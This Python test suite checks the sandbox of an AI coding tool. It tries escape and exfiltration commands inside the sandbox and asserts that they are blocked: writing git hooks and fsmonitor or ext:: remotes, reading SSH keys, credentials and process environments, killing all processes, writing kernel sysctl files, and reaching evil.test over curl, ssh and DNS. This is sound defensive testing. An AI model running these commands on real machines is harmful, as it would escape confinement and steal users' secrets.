#!/usr/bin/env python3
# SPDX-License-Identifier: MIT
"""The checks of the sandbox's specification, by their numbers: each row is an act and what must come of it. They run through
`cadre sandbox run`, which holds a program as a session holds a command, as root and as an ordinary user."""
import concurrent.futures
import contextlib
import json
import os
import pathlib
import random
import shutil
import socket
import subprocess

from lab import CADRE, PLAIN_CADRE, ROOT, Lab, Skip, below, main, until
from twenty import call

OTHER = 65534

# A row: numbers, what, command, what the output must have and must not have (lists), and settings of "sandbox". In the
# command {home}, {work}, {top} and {tools} stand for places; what follows "then:" are files that must (not) be there.
PY = "python3 -c '%s'"
SOCKET = PY % "import socket; socket.socket({0}, {1}); print(\"DID\")"
CALL = PY % ("import ctypes, os; l = ctypes.CDLL(None, use_errno=True); r = l.syscall({0}); "
             "print(\"DID\" if r >= 0 else os.strerror(ctypes.get_errno()))")
ROWS = [
    # ---- writing
    ("1", "outside", "echo x >/etc/f14; echo x >{home}/f; echo x >{top}/f", ["Read-only file system"], [], {}, ["!/etc/f14", "!{home}/f", "!{top}/f"]),
    ("2", "the working directory and TMPDIR", "echo x >f && echo x >$TMPDIR/f && cat f $TMPDIR/f", ["x\nx"], [], {}, ["{work}/f"]),
    ("3", "hooks of git", "echo x >.git/hooks/pre-commit && echo DID", ["Read-only"], ["DID"], {}, ["!{work}/.git/hooks/pre-commit"]),
    ("3", "parts of git directories that make git run programs", "for r in . nested .git/modules/m; do g=$r/.git; test -d $g || g=$r; for p in hooks/h config commondir config.worktree; do "
     "echo /evil >$g/$p; done; done; for p in commondir gitdir config.worktree; do echo /evil >.git/worktrees/w/$p; done; git init -q new; echo /evil >new/.git/commondir; echo TRIED",
     ["TRIED", "removed: {work}/.git/commondir", "removed: {work}/nested/.git/config.worktree", "removed: {work}/new/.git/commondir"], [], {},
     ["!{work}/" + p for p in (".git/hooks/h", ".git/commondir", ".git/config.worktree", "nested/.git/hooks/h", "nested/.git/commondir", "nested/.git/config.worktree",
                               ".git/modules/m/hooks/h", ".git/modules/m/commondir", "new/.git/commondir")] + ["{work}/new/.git/config"]),
    ("3", "and git still makes what it needs", "git init -q new && git -C new -c user.name=t -c user.email=t@t commit -q --allow-empty -m m && git -C new log --format=%s; "
     "git -c user.name=t -c user.email=t@t commit -q --allow-empty -m top && git branch b && git worktree add -q wt b; git -C nested status -s; test -e .git/worktrees/wt/commondir && echo KEPT",
     ["m\n", "KEPT"], ["fatal"], {}, ["{work}/new/.git/hooks", "{work}/.git/worktrees/wt/commondir"]),
    ("3", "a working directory that becomes a repository", "git init -q --bare . && git config core.fsmonitor touch && git rev-parse --git-dir; git init -q --bare x && echo MADE",
     [".\n", "MADE", "removed: {work}/HEAD", "removed: {work}/config"], [], {}, ["!{work}/HEAD", "!{work}/config", "{work}/x/HEAD"]),
    ("4", "git config, and git commits", "git config a.b c && echo DID; echo x >n; git add n && git -c user.name=t -c user.email=t@t commit -qm m && git log --format=%s",
     ["m\n"], ["DID"], {}, []),
    ("5", "moving .git away", "mv .git .g2 && echo DID", ["busy"], ["DID"], {}, ["{work}/.git/config"]),
    ("7", "a protected file that appears", "echo '{{}}' >.mcp.json", [], [], {}, ["!{work}/.mcp.json"]),
    ("9", "a protected file by another name", "ln there/.mcp.json x && echo DID; ln there/.mcp.json there/y && echo DID", ["cross-device"], ["DID"], {}, []),
    ("11", "through a link out", "echo x >d/authorized_keys && echo DID", ["Read-only"], ["DID"], {}, ["!{home}/.ssh/authorized_keys"]),
    ("12", "a protected link that is replaced", "rm .claude && mkdir .claude && echo x >.claude/settings.json; echo done", ["done"], [], {},
     ["!{work}/.claude/settings.json"]),
    ("13", "attributes of a file outside", "chmod 777 {home}/.bashrc && echo DID; touch -d 2001-01-01 {home}/.bashrc && echo DID; "
     "chown 0:0 {home}/.bashrc && echo DID; setfattr -n user.a -v b {home}/.bashrc 2>/dev/null && echo DID; true", ["Read-only"], ["DID"], {}, []),
    ("14", "where core.hooksPath leads", "echo x >own-hooks/pre-commit && echo DID", ["Read-only"], ["DID"], {}, ["!{work}/own-hooks/pre-commit"]),
    ("14", "configurations that git includes", "echo x >>conf/git && echo DID; echo x >>conf/more && echo DID; mv conf c2 && echo DID; echo x >conf/own && echo MADE",
     ["Read-only", "busy", "MADE"], ["DID"], {}, []),
    ("17", "hooks of git stay, whatever allowWrite says", "echo x >.git/hooks/pre-commit && echo DID", [], ["DID"],
     {"filesystem": {"allowWrite": ["{work}/.git/hooks"]}}, []),
    ("17", "a name that projects track, opened by the user", "echo x >.vscode/s.json && cat .vscode/s.json; echo x >.husky/h && echo DID", ["x", "Read-only"], ["DID"],
     {"filesystem": {"allowWrite": ["{work}/.vscode"]}}, ["{work}/.vscode/s.json"]),
    ("17", "the same, denied too", "echo x >.vscode/s.json && echo DID", ["Read-only"], ["DID"],
     {"filesystem": {"allowWrite": ["{work}/.vscode"], "denyWrite": ["{work}/.vscode"]}}, []),
    ("17", "configuration of cadre stays", "echo x >there/.mcp.json && echo DID; echo x >.git/config && echo DID", ["Read-only"], ["DID"],
     {"filesystem": {"allowWrite": ["{work}/there/.mcp.json", "{work}/.git/config", "{work}/.git"]}}, []),
    ("2", "no rules for files, those for the network stay", "echo x >{home}/f && echo x >{home}/cache/g && cat {home}/f; echo x >/proc/sys/kernel/hostname && echo DID; "
     "curl -s http://evil.test/; echo x >.git/hooks/h && echo HOOK", ["x\n", "not among", "HOOK"], ["DID"], {"filesystem": {"disabled": True}}, ["{home}/f", "{home}/cache/g"]),
    ("4", "a configuration of git that may be written", "git config branch.m.remote origin && git config branch.m.merge refs/heads/m && git config remote.origin.url https://x.test/y && echo SET; "
     "git config branch.m.remote", ["SET", "origin"], ["put back"], {"cadre": {"gitConfig": True}}, []),
    ("4", "and names no program", "git config core.fsmonitor 'touch x' && git config branch.m.remote o; echo TRIED", ["TRIED", "put back", "fsmonitor"], [], {"cadre": {"gitConfig": True}}, []),
    ("4", "by no other spelling", "printf '[core] pager = x\\n' >>.git/config; echo TRIED", ["TRIED", "put back"], [], {"cadre": {"gitConfig": True}}, []),
    ("4", "by no remote", "git remote add e 'ext::sh -c x'; echo TRIED", ["TRIED", "put back"], [], {"cadre": {"gitConfig": True}}, []),
    ("4", "by no section that goes away", "sed -i 's/^.core.$//' .git/config; echo TRIED", ["TRIED", "put back"], [], {"cadre": {"gitConfig": True}}, []),
    ("6", "devices that the settings name", "test -c {device} && echo THERE; ls /dev/vda 2>/dev/null && echo DID; true", ["THERE"], ["DID"], {"cadre": {"devices": ["{device}", "/etc/passwd"]}}, []),
    ("6", "and no others", "test -c {device} && echo DID; echo done", ["done"], ["DID"], {}, []),
    ("18", "a denyWrite from above wins", "echo x >x/f && echo DID", [], ["DID"], {"filesystem": {"denyWrite": ["/"], "allowWrite": ["{work}/x"]}}, []),
    ("19", "an allowWrite with a wildcard opens nothing", "echo x >{home}/cache/f && echo DID", [], ["DID"], {"filesystem": {"allowWrite": ["~/c*"]}}, []),
    ("21", "truncation, O_TMPFILE and renames into what is protected",
     "truncate -s 0 .git/config && echo DID; echo x >f; mv f .git/hooks/f && echo DID; "
     + PY % ("import os\ntry:\n  os.open(\".git/hooks\", os.O_TMPFILE | os.O_RDWR); print(\"DID\")\nexcept OSError as e: print(e)"),
     ["Read-only"], ["DID"], {}, []),
    # ---- reading
    ("24", "a home that is hidden but for the project", "cat f0; cat {home}/.ssh/id && echo DID; ls {home} >/dev/null && echo DID; cat {home}/.bashrc && echo DID",
     ["seen", "ermission denied"], ["DID", "TOPSECRET"], {"filesystem": {"denyRead": ["~/"], "allowRead": ["{work}"]}}, []),
    ("25", "a wildcard that hides", "cat deep/.env && echo DID", ["ermission denied"], ["HIDDENVALUE", "DID"], {"filesystem": {"denyRead": ["{work}/**/.env"]}}, []),
    ("26", "a hidden file", "cat deep/.env && echo DID; chmod 644 deep/.env && echo DID; echo x >deep/.env && echo DID", ["ermission denied", "Read-only"],
     ["HIDDENVALUE", "DID"], {"filesystem": {"denyRead": ["{work}/deep/.env"]}}, []),
    ("26", "a hidden file that git tracks", "git status --porcelain; echo done", [" M deep/.env", "done"], ["T deep/.env", "HIDDENVALUE"], {"filesystem": {"denyRead": ["{work}/deep/.env"]}}, []),
    ("28", "variables that are denied", "env; cat /proc/*/environ | tr '\\0' '\\n'", ["HOME="], ["HIDDENVALUE"],
     {"credentials": {"envVars": [{"name": "MY_TOKEN", "mode": "deny"}]}}, []),
    ("29", "what credentials name, with an allowRead of the project", "cat {home}/token && echo DID; cat {home}/open", ["ermission denied", "fine"], ["DID", "TOPSECRET"],
     {"credentials": {"files": [{"path": "~/token", "mode": "deny"}]}, "filesystem": {"denyRead": ["~/open"]}}, [],
     {"filesystem": {"allowRead": ["~/token", "~/open"]}}),
    ("29", "and with one of the user's own", "cat {home}/token", ["TOPSECRET"], [],
     {"credentials": {"files": [{"path": "~/token", "mode": "deny"}]}, "filesystem": {"allowRead": ["~/token"]}}, []),
    ("17", "a project's allowWrite lifts no protection", "echo x >.vscode/s.json && echo DID", ["Read-only"], ["DID"], {}, [],
     {"filesystem": {"allowWrite": ["./.vscode"]}}),
    ("31", "cadre's credentials", "cat {home}/.claude/.credentials.json && echo DID", ["ermission denied"], ["DID", "TOPSECRET"], {}, []),
    ("31", "the sockets of sessions", "ls {runtime}/cadre && echo DID; cat {runtime}/cadre/x && echo DID", ["ermission denied"], ["DID", "TOPSECRET"], {}, []),
    # ---- processes
    ("32", "signals to all", "kill -9 -1; echo alive; pkill cadre; echo alive", ["alive\nalive"], [], {}, []),
    ("33", "only processes of the cell are seen", "test $(ls /proc | grep -c '^[0-9]') -lt 10 && echo few", ["few"], [], {}, []),
    ("34", "process 1", "cat /proc/1/environ /proc/1/mem && echo DID; gdb --version >/dev/null 2>&1; "
     + PY % ("import ctypes, os, signal, time\nl = ctypes.CDLL(None, use_errno=True)\nprint(\"init\", l.ptrace(16, 1, 0, 0))\n"
             "p = os.fork()\nif p == 0:\n  time.sleep(20)\nprint(\"own\", l.ptrace(16, p, 0, 0))\nos.kill(p, 9)"), ["init -1", "own 0"], ["DID"], {}, []),
    ("38", "user namespaces", "unshare -U true && echo DID", ["not permitted"], ["DID"], {}, []),
    ("38", "user namespaces where they may be made", "unshare -U true && echo DID; test $(id -u) = 0 || unshare -Ur true && echo MAPPED; unshare -Urm mount -t tmpfs none /mnt && echo MOUNTED; "
     "echo x >/proc/sys/kernel/core_pattern && echo WROTE; echo h >/proc/sysrq-trigger && echo WROTE; true", ["DID", "MAPPED"], ["MOUNTED", "WROTE"],
     {"allowNestedUserNamespaces": True}, []),
    ("39", "io_uring", CALL.format(425), ["Function not implemented"], ["DID"], {}, []),
    ("40", "calls of another architecture", CALL.format("0x40000000 + 39"), ["Function not implemented"], ["DID"], {}, []),
    ("41", "vsock", SOCKET.format(40, 1), ["not permitted"], ["DID"], {}, []),
    ("41", "packet", SOCKET.format(17, 3), ["not permitted"], ["DID"], {}, []),
    ("41", "alg", SOCKET.format(38, 5), ["not permitted"], ["DID"], {}, []),
    ("41", "raw", SOCKET.format(2, 3), ["not permitted"], ["DID"], {}, []),
    ("42", "keys", CALL.format(250), ["not permitted"], ["DID"], {}, []),
    ("42", "bpf", CALL.format(321), ["not permitted"], ["DID"], {}, []),
    ("42", "perf", CALL.format(298), ["not permitted"], ["DID"], {}, []),
    ("42", "userfaultfd", CALL.format(323), ["not permitted"], ["DID"], {}, []),
    ("43", "what root could do", "echo x >/proc/sys/kernel/core_pattern && echo DID; echo h >/proc/sysrq-trigger && echo DID; mknod dev b 8 0 && echo DID; "
     "mount -o remount,rw / && echo DID; mount -t tmpfs none . && echo DID; true", [], ["DID"], {}, []),
    ("43", "a file of another user in a working directory, as root", "echo more >>other && cat other", ["seen\nmore\n"], [], {}, []),
    ("44", "no core for a handler", PY % "import resource; print(resource.getrlimit(resource.RLIMIT_CORE))", ["(1, 1)"], [], {}, []),
    ("45", "set-user-ID programs", "grep NoNewPrivs /proc/self/status; grep CapEff /proc/self/status", ["NoNewPrivs:\t1"], ["1ffffffffff"], {}, []),
    # ---- sockets
    ("46", "a socket of a program outside", "{tools}/connect {work}/outside.sock", ["refused"], ["DID"], {}, []),
    ("47", "one that was moved to a name of our own", "{tools}/connect --swap own.sock outside.sock; mv own.sock outside.sock",
     ["refused"], ["DID"], {}, []),
    ("48", "an abstract socket outside", "{tools}/connect @{work}", ["refused"], ["DID"], {}, []),
    ("50", "sockets of our own", "{tools}/connect --bind own.sock >out & until grep -sq bound out; do sleep 0.01; done; {tools}/connect --read own.sock; "
     "{tools}/connect --bind $TMPDIR/o >out2 & until grep -sq bound out2; do sleep 0.01; done; cd $TMPDIR; {tools}/connect --read o; "
     + PY % "import multiprocessing as m; q = m.Manager().list([7]); print(\"shared\", q[0])", ["DID b'hello'\nDID b'hello'", "shared 7"], ["refused"], {}, []),
    ("50", "an abstract socket of our own", PY % "import socket as s\na = s.socket(s.AF_UNIX); a.bind(\"\\0own\"); a.listen(1); b = s.socket(s.AF_UNIX); b.connect(\"\\0own\"); print(\"DID\")",
     ["DID"], [], {}, []),
    ("54", "a socket that the settings name", "{tools}/connect {work}/outside.sock", ["DID"], ["refused"], {"network": {"allowUnixSockets": ["{work}/outside.sock"]}}, []),
    ("54", "a link to one that they do not name", "{tools}/connect {work}/link.sock", ["refused"], ["DID"], {"network": {"allowUnixSockets": ["{work}/link.sock"]}}, []),
    ("46", "all of them, if they say so", "{tools}/connect {work}/outside.sock", ["DID"], ["refused"], {"network": {"allowAllUnixSockets": True}}, []),
    ("9", "a report that is not wanted", "curl -s http://evil.test/ >/dev/null; curl -s http://other.test/ >/dev/null", ["other.test:80"], ["evil.test:80"],
     {"ignoreViolations": {"curl -s": ["evil.test"], "wget": ["other.test"]}}, []),
    ("53", "a pair of datagram sockets", PY % "import socket; socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); print(\"DID\")", ["not permitted"], ["DID"], {}, []),
    # ---- network
    ("68", "services of the machine", PY % "import socket; socket.create_connection((\"127.0.0.1\", {port}), 3); print(\"DID\")", ["refused"], ["DID"], {}, []),
]

CONNECT = """#!/usr/bin/env python3
import socket, sys
path = sys.argv[-1]
try:
    s = socket.socket(socket.AF_UNIX)
    if sys.argv[1] == "--bind":
        s.bind(path); s.listen(1); print("bound", flush=True)
        other = s.accept()[0]; other.sendall(b"hello"); other.recv(1)  # lives until it was seen who it is
    elif sys.argv[1] == "--swap":  # a name that was ours leads to theirs
        import os
        s.bind(sys.argv[2]); s.listen(1); os.unlink(sys.argv[2]); os.rename(path, sys.argv[2])
        socket.socket(socket.AF_UNIX).connect(sys.argv[2]); print("DID")
    else:
        s.connect("\\0" + path[1:] if path[0] == "@" else path); print("DID", s.recv(9) if sys.argv[1] == "--read" else "")
except OSError as why:
    print("refused", why)
"""


# A device that is not among the plain ones
DEVICE = next((str(p) for p in sorted(pathlib.Path("/dev").iterdir()) if p.is_char_device()
               and p.name not in ("null", "zero", "full", "random", "urandom", "tty", "console", "ptmx")), "/dev/ptmx")


def put(path, text, mode=0o644):
    path = pathlib.Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(mode)


def tree(lab, row):
    """A new tree for one row. Returns the places by their names."""
    for place in (lab.home, lab.work):
        shutil.rmtree(place)
        os.makedirs(place)
    git = {**lab.env, "HOME": lab.folder}
    subprocess.run(["git", "init", "-q", lab.work], check=True, env=git)
    put(lab.home + "/.bashrc", "canary\n")
    put(lab.home + "/.ssh/id", "TOPSECRET\n", 0o600)
    put(lab.home + "/.claude/.credentials.json", "TOPSECRET\n", 0o600)
    put(lab.folder + "/runtime/cadre/x", "TOPSECRET\n")
    os.makedirs(lab.home + "/cache")
    put(lab.home + "/token", "TOPSECRET\n", 0o600)
    put(lab.home + "/open", "fine\n")
    os.makedirs(lab.work + "/x")
    os.makedirs(lab.work + "/.vscode")
    os.makedirs(lab.work + "/.husky")
    os.makedirs(lab.work + "/own-hooks")
    put(lab.work + "/f0", "seen\n")
    put(lab.work + "/deep/.env", "HIDDENVALUE\n")
    put(lab.work + "/there/.mcp.json", "{}\n")
    os.symlink(lab.home + "/.ssh", lab.work + "/d")
    if row[0] == "26":
        for args in (("add", "-f", "deep/.env"), ("-c", "user.name=t", "-c", "user.email=t@example.org", "commit", "-qm", "first")):
            subprocess.run(["git", "-C", lab.work, *args], check=True, env=git)
    if row[0] == "43":
        put(lab.work + "/other", "seen\n", 0o600)
        if os.geteuid() == 0:
            os.chown(lab.work + "/other", 4321, 4321)
    if row[0] == "12":
        os.makedirs(lab.work + "/elsewhere")
        os.symlink("elsewhere", lab.work + "/.claude")
    if row[0] == "3" and "becomes" in row[1]:
        shutil.rmtree(lab.work + "/.git")
    elif row[0] == "3":
        subprocess.run(["git", "init", "-q", lab.work + "/nested"], check=True, env=git)
        for name in ("modules/m/hooks/none", "modules/m/config", "worktrees/w/commondir", "worktrees/w/gitdir", "worktrees/w/config.worktree"):
            put(lab.work + "/.git/" + name, "same\n")
    if row[0] == "14":
        subprocess.run(["git", "-C", lab.work, "config", "core.hooksPath", "own-hooks"], check=True, env=git)
        subprocess.run(["git", "-C", lab.work, "config", "include.path", "../conf/git"], check=True, env=git)
        put(lab.work + "/conf/git", "[includeIf \"gitdir:**\"]\n\tpath = \"more\"\n")
        put(lab.work + "/conf/more", "[alias]\n\tx = status\n")
    put(lab.folder + "/tools/connect", CONNECT, 0o755)
    outside = socket.socket(socket.AF_UNIX)
    outside.bind(lab.work + "/outside.sock")
    outside.listen(8)
    os.chmod(lab.work + "/outside.sock", 0o777)
    os.symlink("outside.sock", lab.work + "/link.sock")
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0" + lab.work)
    abstract.listen(8)
    port = socket.create_server(("127.0.0.1", 0))
    os.chmod(lab.folder, 0o755)
    return {"home": lab.home, "work": lab.work, "top": lab.folder, "tools": lab.folder + "/tools", "runtime": lab.folder + "/runtime",
            "port": port.getsockname()[1], "device": DEVICE, "kept": (outside, abstract, port)}


def fill(value, places):
    if isinstance(value, str):
        for name in ("home", "work", "top", "tools", "runtime", "device", "port"):
            value = value.replace("{%s}" % name, str(places[name]))
        return value.replace("{{", "{").replace("}}", "}")
    if isinstance(value, dict):
        return {k: fill(v, places) for k, v in value.items()}
    return [fill(v, places) for v in value] if isinstance(value, list) else value


def run_inside(lab, command, settings=None, user=None, options=()):
    put(lab.home + "/.claude/settings.json", json.dumps({"sandbox": {"enabled": True, **(settings or {})}}))
    more = {}
    if user is not None:
        subprocess.run(["chown", "-R", "%d:%d" % (user, user), lab.home, lab.work], check=True)
        more = {"user": user, "group": user, "extra_groups": []}
    env = {**lab.env, "MY_TOKEN": "HIDDENVALUE", "TMPDIR": "/tmp", "XDG_RUNTIME_DIR": lab.folder + "/runtime"}
    program = CADRE if user is None else PLAIN_CADRE  # as root the same is sanitized
    done = subprocess.run([program, "sandbox", "run", *options, "--", "bash", "-c", command], env=env, cwd=lab.work, stdin=subprocess.DEVNULL,
                          stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=60, **more)
    return done.stdout


def check_row(row, user):
    """In a lab of its own. Returns what is wrong, or nothing."""
    lab = Lab()
    number, what, command, has, lacks, settings, files, *project = row
    places = tree(lab, row)
    try:
        if project:
            put(lab.work + "/.claude/settings.json", json.dumps({"sandbox": fill(project[0], places)}))
        out = run_inside(lab, fill(command, places), fill(settings, places), user, options=("--trust-project",) if project else ())
        wrong = [w for w in fill(has, places) if w not in out]
        wrong += ["changed " + str(name) for name in pathlib.Path(lab.work, ".git").glob("*/[wm]/*") if name.is_file() and name.read_text() != "same\n"]
        wrong += ["not " + w for w in lacks if w in out]
        for name in fill(files, places):
            there = os.path.lexists(name.lstrip("!"))
            if there == name.startswith("!"):
                wrong.append("file " + name)
        canary = pathlib.Path(lab.home, ".bashrc")
        if canary.read_text() != "canary\n" or canary.stat().st_mode & 0o777 != 0o644:
            wrong.append("the canary was changed")
        lab.wait_for_nobody()
        return "%s %s: %s in\n%s" % (number, what, wrong, out) if wrong else ""
    finally:
        for kept in places["kept"]:
            kept.close()
        lab.close()


def check(rows, user=None):
    with concurrent.futures.ThreadPoolExecutor(3) as pool:
        bad = [text for text in pool.map(check_row, rows, [user] * len(rows)) if text]
    assert not bad, "\n".join(bad)


NO_PROXY = "env -u HTTP_PROXY -u HTTPS_PROXY -u ALL_PROXY -u http_proxy -u https_proxy -u all_proxy "


class Server:
    """Answers HTTP with hello, and remembers what it was sent."""

    def __init__(self, port=0):
        import threading
        self.socket = socket.create_server(("127.0.0.1", port))
        self.port, self.seen = self.socket.getsockname()[1], []
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                c = self.socket.accept()[0]
            except OSError:
                return
            c.settimeout(2)
            try:
                self.seen.append(c.recv(4096))
                c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: 6\r\nConnection: close\r\n\r\nhello\n")
            except OSError:
                pass
            c.close()


def programs_that_know_no_proxy_reach_listed_hosts_and_no_others(lab):
    server, other = Server(), Server()
    tree(lab, ("55",))
    lists = {"network": {"allowedDomains": ["localhost:%d" % server.port, "allowed.test", "*.wild.test"], "deniedDomains": ["no.wild.test"]}}

    def inside(command, user=None):
        return run_inside(lab, command, lists, user)
    for user in (None, OTHER) if os.geteuid() == 0 else (None,):
        with_proxy = inside("curl -s --noproxy '' http://localhost:%d/" % server.port, user)                      # 55
        without = inside(NO_PROXY + "curl -s http://localhost:%d/" % server.port, user)
        assert with_proxy == without == "hello\n", (with_proxy, without)
        out = inside(NO_PROXY + "curl -sS -m 9 http://localhost:%d/" % other.port, user)                          # 67
        assert "Failed to connect" in out and not other.seen, out
        out = inside(NO_PROXY + "curl -sS -m 9 http://evil.test/; " + NO_PROXY + "curl -sS -m 9 https://evil.test/", user)  # 56
        assert "not among sandbox.network.allowedDomains" in out and "blocked: network evil.test:443" in out, out
        out = inside("timeout 9 ssh -o StrictHostKeyChecking=no evil.test true", user)                          # 57
        assert "disconnect" in out and "not among" in out, out
        out = inside("getent ahostsv4 secret.evil.test; getent ahostsv4 SECRET.evil.test", user)  # 63
        assert out.count("198.18.0.1 ") == 6, out
        for literal in ("1.1.1.1", "0x7f.1", "2130706433", "[::ffff:127.0.0.1]", "017700000001", "127.1"):       # 58
            out = inside("curl -s -o /dev/null -w '%%{http_code}' --noproxy '' -m 9 http://%s:%d/; curl -sS -m 9 --noproxy '' -x http://127.0.0.1:61080 "
                         "-p http://%s:%d/" % (literal, other.port, literal, other.port), user)
            assert "403" in out and not other.seen, (literal, out)
    for host, wanted in (("allowed.test.evil.test", False), ("ALLOWED.test.", True), ("a.wild.test", True), ("wild.test", False),            # 65
                         ("no.wild.test", False), ("a.b.wild.test", True), ("allowed.test:25", False), ("allowed.test:6000", False),     # 66, 61
                         ("allowed.test:8443", True), ("allowed.test:2375", False), ("localhost:%d" % server.port, True), ("localhost:1", False),
                         ("xallowed.test", False), ("allowed.test%00.evil", False), ("allowed..test", False), ("127.0.0.1:80", False)):
        done = subprocess.run([CADRE, "sandbox", "explain", "--json", host], env=lab.env, cwd=lab.work, stdout=subprocess.PIPE, text=True)
        answer = json.loads(done.stdout)
        assert answer["reachable"] == wanted and done.returncode == (not wanted), (host, answer)


class Upstream:
    """A proxy of the user's: HTTP or SOCKS5. Remembers what it was asked for, and leads all to one port."""

    def __init__(self, to, socks):
        import threading
        self.socket, self.asked, self.to, self.socks = socket.create_server(("127.0.0.1", 0)), [], to, socks
        self.port = self.socket.getsockname()[1]
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        import threading
        while True:
            try:
                c = self.socket.accept()[0]
            except OSError:
                return
            if self.socks:
                greeting = c.recv(3, socket.MSG_WAITALL)
                c.sendall(b"\5\0")
                head = c.recv(5, socket.MSG_WAITALL)
                name = c.recv(head[4] + 2, socket.MSG_WAITALL)
                assert greeting[0] == 5
                self.asked.append("%s:%d" % (name[:-2].decode(), int.from_bytes(name[-2:], "big")))
                c.sendall(b"\5\0\0\1\0\0\0\0\0\0")
            else:
                head = b""
                while b"\r\n\r\n" not in head:
                    head += c.recv(1)
                self.asked.append(head.split()[1].decode())
                c.sendall(b"HTTP/1.1 200 ok\r\n\r\n")
            out = socket.create_connection(("127.0.0.1", self.to))
            threading.Thread(target=self.copy, args=(c, out), daemon=True).start()
            threading.Thread(target=self.copy, args=(out, c), daemon=True).start()

    @staticmethod
    def copy(a, b):
        try:
            while data := a.recv(65536):
                b.sendall(data)
            b.shutdown(socket.SHUT_WR)
        except OSError:
            pass


def a_proxy_of_the_user_gets_what_the_lists_let_pass(lab):
    server = Server()
    for socks in (False, True):
        upstream = Upstream(server.port, socks)
        tree(lab, ("proxy",))
        lists = {"network": {"allowedDomains": ["far.test"], "socksProxyPort" if socks else "httpProxyPort": upstream.port}}
        for how in ("curl -s http://far.test/", NO_PROXY + "curl -s http://far.test/", "curl -s -p -x http://127.0.0.1:61080 http://far.test:8080/",
                    "curl -s -x socks5h://127.0.0.1:61080 http://far.test:8080/"):
            out = run_inside(lab, how, lists)
            assert out == "hello\n", (socks, how, out)
        assert upstream.asked == ["far.test:80", "far.test:80", "far.test:8080", "far.test:8080"], upstream.asked
        out = run_inside(lab, "curl -s http://evil.test/", lists)
        assert "not among" in out and len(upstream.asked) == 4, (out, upstream.asked)


def rules_for_tools_count_inside_too(lab):
    places = tree(lab, ("rules",))
    del places
    put(lab.home + "/.claude/settings.json", json.dumps({
        "permissions": {"allow": ["WebFetch(domain:page.test)", "WebFetch", "WebFetch(domain:*)", "Edit(~/cache/**)", "Edit(/x/**)"],
                        "deny": ["WebFetch(domain:bad.test)", "Edit(./x/**)", "Read(./deep/.env)"]},
        "sandbox": {"enabled": True, "network": {"allowedDomains": ["bad.test"]}}}))

    def explain(what):
        done = subprocess.run([CADRE, "sandbox", "explain", "--json", what], env=lab.env, cwd=lab.work, stdout=subprocess.PIPE, text=True)
        return json.loads(done.stdout)
    assert explain("page.test")["reachable"] and not explain("other.test")["reachable"] and not explain("bad.test")["reachable"]
    assert explain(lab.home + "/cache")["writable"] and not explain(lab.home + "/other")["writable"]
    assert not explain(lab.work + "/deep/.env")["readable"]


LOOKUP = """import socket, struct, sys
def ask(s, name):
    q = struct.pack(">HHHHHH", 7, 256, 1, 0, 0, 0) + b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0" + struct.pack(">HH", 1, 1)
    s.sendall(struct.pack(">H", len(q)) + q if s.type == socket.SOCK_STREAM else q)
    a = s.recv(2, socket.MSG_WAITALL) if s.type == socket.SOCK_STREAM else b""
    a = s.recv(struct.unpack(">H", a)[0], socket.MSG_WAITALL) if a else s.recv(512)
    return socket.inet_ntoa(a[-4:])
for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
        s = socket.socket(family, kind)
        s.settimeout(9)
        s.connect((host, 53))
        print(ask(s, "a.test"), ask(s, "b.test"))
s = socket.create_connection(("127.0.0.1", 53), 9)
s.sendall(b"\\xff\\xff" + b"x" * 600)
try: print("closed", s.recv(1))
except ConnectionError: print("closed", b"")
"""


def lookups_and_literals_of_both_families_end_here(lab):
    server = Server()
    tree(lab, ("63",))
    put(lab.folder + "/tools/lookup", LOOKUP)
    lists = {"network": {"allowedDomains": ["localhost:%d" % server.port, "[::1]:%d" % server.port]}}
    for user in (None, OTHER) if os.geteuid() == 0 else (None,):
        out = run_inside(lab, "python3 %s/tools/lookup" % lab.folder, lists, user)
        assert out == "198.18.0.1 198.18.0.2\n" * 4 + "closed b''\n", out
        out = run_inside(lab, NO_PROXY + "curl -s 'http://[::1]:%d/'" % server.port, lists, user)                      # our loopback is the machine's, if listed
        assert out == "hello\n", out
        out = run_inside(lab, NO_PROXY + "curl -s -m 9 'http://[2001:db8::5]/'; " + NO_PROXY + "curl -s -m 9 'http://[::ffff:127.0.0.1]/'", lists, user)
        assert "[2001:db8::5]: not among" in out and "localhost: not among" in out, out


def free_ports(count):
    """Different ones, below those that the kernel gives to connections meanwhile."""
    with contextlib.ExitStack() as stack:
        held = []
        while len(held) < count:
            with contextlib.suppress(OSError):
                held.append(stack.enter_context(socket.create_server(("127.0.0.1", random.randrange(20000, 32768)))))
        return [s.getsockname()[1] for s in held]


def git_reaches_a_listed_host_over_ssh_and_no_other(lab):                                                               # 57
    """A real server of ssh on this machine. It reads keys in the home of its user, so it gets another one, in a mount namespace."""
    if os.geteuid() != 0 or not shutil.which("dropbear", path="/usr/sbin:" + lab.env["PATH"]):
        raise Skip("dropbear is not there, or only root may change its view of files")
    tree(lab, ("57",))
    key, far, port = lab.work + "/key", lab.folder + "/far.git", *free_ports(1)
    git = {**lab.env, "HOME": lab.folder}
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f", key], check=True)
    subprocess.run(["ssh-keygen", "-q", "-t", "ecdsa", "-m", "PEM", "-N", "", "-f", lab.folder + "/host"], check=True)
    subprocess.run(["/usr/bin/dropbearconvert", "openssh", "dropbear", lab.folder + "/host", lab.folder + "/hostkey"], check=True, stderr=subprocess.DEVNULL)
    subprocess.run(["git", "init", "-q", "--bare", far], check=True, env=git)
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", "commit", "-q", "--allow-empty", "-m", "x"], check=True, env=git, cwd=lab.work)
    subprocess.run(["git", "push", "-q", far, "HEAD:refs/heads/main"], check=True, env=git, cwd=lab.work)
    view = ("mount -t tmpfs -o mode=700 none /root && mkdir -m 700 /root/.ssh && cp %s.pub /root/.ssh/authorized_keys && "
            "exec /usr/sbin/dropbear -F -E -r %s/hostkey -P %s/pid -p 127.0.0.1:%d" % (key, lab.folder, lab.folder, port))
